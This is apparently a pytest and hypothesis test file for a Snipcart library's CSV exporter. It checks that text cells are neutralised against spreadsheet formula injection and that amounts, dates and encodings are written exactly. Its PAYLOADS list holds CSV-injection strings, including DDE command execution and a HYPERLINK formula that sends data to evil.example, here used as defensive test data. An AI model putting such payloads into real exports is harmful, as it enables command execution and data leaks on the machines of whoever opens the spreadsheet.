"""CSV: exact for programs, harmless in spreadsheets."""

import csv
import io
import tempfile
from codecs import BOM_UTF8
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from snipcart_async.export.as_csv import Csv, restore
from snipcart_async.export.columns import Kind, OrderRow, R, Table, customers_table, orders_table
from snipcart_async.models import Address, Customer, CustomerStatistics, Order

from .rows import part, write_all

CUSTOMER_ID = "c8de947a-2483-4e36-9052-031e2aa3f0ac"
TRIGGERS = "=+-@\t\r\n＝＋－＠"  # noqa: RUF001 - the wide ones run too
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+1+1",
    "+33 1 23 45 67 89",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\ttab",
    "\rreturn",
    "\nline",
    " =1+1",
    "   +1",
    " \t-1",
    "\u00a0=1+1",
    "\u3000@SUM(1)",
    "\u2003-1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\u202e=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    '="a","b"',
    "=1;=2",
)
ORDER_TEXTS = [
    field.name
    for field in attrs.fields(Order)
    if field.name not in {"payment_method", "extra"} and str in getattr(field.type, "__args__", (field.type,))
]
ADDRESS_TEXTS = [field.name for field in attrs.fields(Address) if field.name != "extra"]


def order_full_of(text: str) -> OrderRow:
    """Put a text into every text of an order, and into the free JSON."""
    lines: dict[str, Any] = dict.fromkeys(ADDRESS_TEXTS, text)
    texts: dict[str, Any] = dict.fromkeys(ORDER_TEXTS, text)
    address = Address(**lines)
    return OrderRow(
        text,
        Order(**texts, payment_method=text, billing_address=address, shipping_address=address, metadata=text),
    )


def records(table: Table[R], *rows: R, chosen: Csv | None = None) -> list[list[str]]:
    """Write rows, and read them back with the csv module."""
    with tempfile.TemporaryDirectory() as folder:
        content = write_all(part(Path(folder)), chosen or Csv(), table, rows).read_bytes()
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    """In no text column a spreadsheet finds a formula, whatever stands before its sign."""
    table = orders_table()
    (record,) = records(table, order_full_of(payload))
    cells = [cell for cell, column in zip(record, table.columns, strict=True) if column.kind is Kind.TEXT]

    assert len(cells) > 50
    assert len(ORDER_TEXTS) > 20
    assert {cell for cell in cells if cell} == {"'" + payload.replace("\0", "")}


@given(st.text() | st.text(TRIGGERS + " \u00a0\0a'\",;\u200b"))
def test_any_text_is_harmless_and_read_back(text: str) -> None:
    """No cell begins with a trigger behind blanks; and but for NUL and the apostrophe, it is what it was."""
    (record,) = records(orders_table(), order_full_of(text))
    exact = text.replace("\0", "")

    assert not any(cell.strip().startswith(tuple(TRIGGERS)) or cell.startswith(("\t", "\r", "\n")) for cell in record)
    assert record[1] in {exact, f"'{exact}"}
    assert restore(record[1]) == exact or exact.startswith("'")  # an apostrophe of the shopper's own cannot be told


@given(st.text())
def test_any_text_is_read_back_exactly_where_nothing_is_neutralised(text: str) -> None:
    """A program gets what Snipcart sent, but for NUL characters."""
    (record,) = records(orders_table(), order_full_of(text), chosen=Csv(neutralise=False))

    assert record[:3] == [text.replace("\0", "")] * 3


@pytest.mark.parametrize(
    ("amount", "cell"),
    [
        ("-5.00", "-5.00"),
        ("300.0000", "300.0000"),
        ("1E+3", "1000"),
        ("0E-27", "0.000000000000000000000000000"),
        ("0.1234567890123456789012345678901234567890", "0.1234567890123456789012345678901234567890"),
        ("1E+999999999", "1E+999999999"),
        ("-1E-999999999", "-1E-999999999"),
    ],
)
def test_numbers_are_exact_and_left_alone(amount: str, cell: str) -> None:
    """An amount has all its digits, no apostrophe, and never a gigabyte of zeros."""
    customer = Customer(id=CUSTOMER_ID, statistics=CustomerStatistics(orders_count=-3, orders_amount=Decimal(amount)))
    (record,) = records(customers_table(), customer)

    assert record[3:5] == ["-3", cell]


def test_every_kind_has_its_spelling() -> None:
    """Booleans are words, instants end in Z, and nothing is an empty cell, as "" is."""
    customer = Customer(
        id=CUSTOMER_ID,
        email="",
        shipping_address_same_as_billing=False,
        creation_date=datetime(2024, 2, 29, 12, 0, 0, 120000, UTC),
        extra={"a": Decimal("1.10")},
    )
    yes = attrs.evolve(customer, shipping_address_same_as_billing=True, extra={})
    one, two = records(customers_table(), customer, yes)

    assert one[:3] == [CUSTOMER_ID, "", ""]
    assert one[6:8] == ["2024-02-29T12:00:00.12Z", "false"]
    assert two[7] == "true"
    assert (one[-1], two[-1]) == ('{"a":1.10}', "")


def test_the_file_is_rfc_4180(tmp_path: Path) -> None:
    """A header first, CRLF at every end, and no mark of UTF-8 unless asked for."""
    path = write_all(part(tmp_path), Csv(), customers_table(), [Customer(id=CUSTOMER_ID)])
    header, record, rest = path.read_bytes().split(b"\r\n")

    assert header.startswith(b"id,email,mode,statisticsOrdersCount,")
    assert b",billingAddressCompanyName," in header
    assert record == CUSTOMER_ID.encode() + b"," * header.count(b",")
    assert rest == b""


def test_the_mark_of_utf_8_is_there_once(tmp_path: Path) -> None:
    """Asked for, the mark is the beginning of the file, also of one that was continued."""
    path, chosen = part(tmp_path), Csv(bom=True)
    sink = chosen.open(path, customers_table())
    position = sink.sync()
    sink.close()
    sink = chosen.open(path, customers_table())
    sink.rewind(position)
    sink.write([Customer(id=CUSTOMER_ID)])
    content = sink.finish().read_bytes()

    assert content.startswith(BOM_UTF8 + b"id,")
    assert content.count(BOM_UTF8) == 1
